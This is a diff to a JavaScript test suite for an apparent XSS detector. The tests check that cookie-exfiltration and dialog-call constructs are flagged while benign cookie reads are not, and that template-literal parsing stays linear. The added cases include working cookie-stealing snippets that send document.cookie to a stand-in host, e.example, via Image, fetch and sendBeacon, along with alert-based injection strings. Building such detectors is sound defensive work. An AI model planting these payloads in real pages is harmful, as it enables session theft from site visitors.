@@ -94,19 +94,44 @@ describe("js check", () => {
   });
 
   test("the page's cookie sent off the page is stealing it; a plain read is not", () => {
-    for (const v of ['new Image().src="//e.example/?c="+document.cookie', "fetch('//e.example/?c='+encodeURIComponent(document.cookie))", 'navigator.sendBeacon("//e.example",document.cookie)', "fetch(`https://e.example/${document.cookie}`)"]) {
+    const sent = [
+      'new Image().src="//e.example/?c="+document.cookie',
+      "fetch('//e.example/?c='+encodeURIComponent(document.cookie))",
+      'navigator.sendBeacon("//e.example",document.cookie)',
+      "fetch(`https://e.example/${document.cookie}`)",
+      "img.src = u + document.cookie",
+      "$.post('/x', {c: document.cookie})",
+    ];
+    for (const v of sent) {
       expect([v, constructs(v)]).toEqual([v, expect.arrayContaining(["cookie-exfiltration"])]);
       expect(top(v)).toBeGreaterThanOrEqual(0.7);
     }
-    for (const v of ["var c = document.cookie;", 'x=document.cookie.indexOf("a=")', "`hello ${document.cookie}`"]) expect(constructs(v)).not.toContain("cookie-exfiltration");
+    // Reads, a condition before a redirect, a word that names a sending call, a template that is no address.
+    const kept = [
+      "var c = document.cookie;",
+      "x = document.cookie.indexOf('lang=') > -1 ? 'a' : '/en/'",
+      "if (!document.cookie) location.href = '/login';",
+      "var open = true, c = document.cookie",
+      "console.log(`cookies? ${document.cookie}`)",
+    ];
+    for (const v of kept) expect([v, constructs(v)]).toEqual([v, expect.not.arrayContaining(["cookie-exfiltration"])]);
   });
 
   test("a template literal's substitutions are code", () => {
     expect(constructs("x=`${alert(1)}`")).toContain("dialog-call");
     expect(top("';`${alert(document.cookie)}`//")).toBeGreaterThanOrEqual(0.9);
+    // A brace inside a string does not end the substitution.
+    expect(constructs('x=`${"}",alert(1)}`')).toContain("dialog-call");
     expect(constructs("`${a}${b} and ${c}`")).toEqual([]);
-    // Unclosed substitutions, and many of them: linear, no throw.
-    expect(() => checkJs("`${".repeat(100_000), 0, 300_000, "bare")).not.toThrow();
+  });
+
+  test("templates an escaped backtick opens inside a substitution are read once: linear, and what comes before is still found", () => {
+    const chain = "`" + "${\\`alert(1)".repeat(20_000);
+    expect(() => checkJs(chain, 0, chain.length, "bare")).not.toThrow();
+    const script = "`" + "${\\`".repeat(20_000);
+    expect(() => checkJs(script, 0, script.length, "script")).not.toThrow();
+    const value = `';alert(document.cookie)// ${chain}`;
+    expect(constructs(value)).toContain("dialog-call");
     expect(constructs(`x=\`${"${a}".repeat(100_000)}\${alert(1)}\``)).toContain("dialog-call");
   });
 
